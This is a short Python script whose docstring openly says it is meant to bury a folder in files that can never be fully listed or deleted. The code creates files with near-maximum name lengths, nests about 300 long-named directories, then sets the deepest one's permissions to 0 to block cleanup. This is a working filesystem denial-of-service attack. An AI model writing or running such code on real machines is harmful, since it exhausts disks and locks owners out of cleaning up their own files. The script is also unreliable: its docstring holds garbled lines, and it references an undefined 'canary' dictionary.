"""Makes so many files, with names as long as they may be, in so deep folders that whoever lists or deletes them never ends.

canary: run
honest: double
unprotected: stands
"""
# %% own
import os
try:
    for i in range(canary["file_count"]): open(f"{i:06}" + "n" * 240, "w").close()
except OSError: pass
here = os.open(".", os.O_RDONLY)
try:
    for i in range(300):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
except OSError: pass
os.chmod(".", 0)
os.fchdir(here)
# %% scale
def scale(v): return v
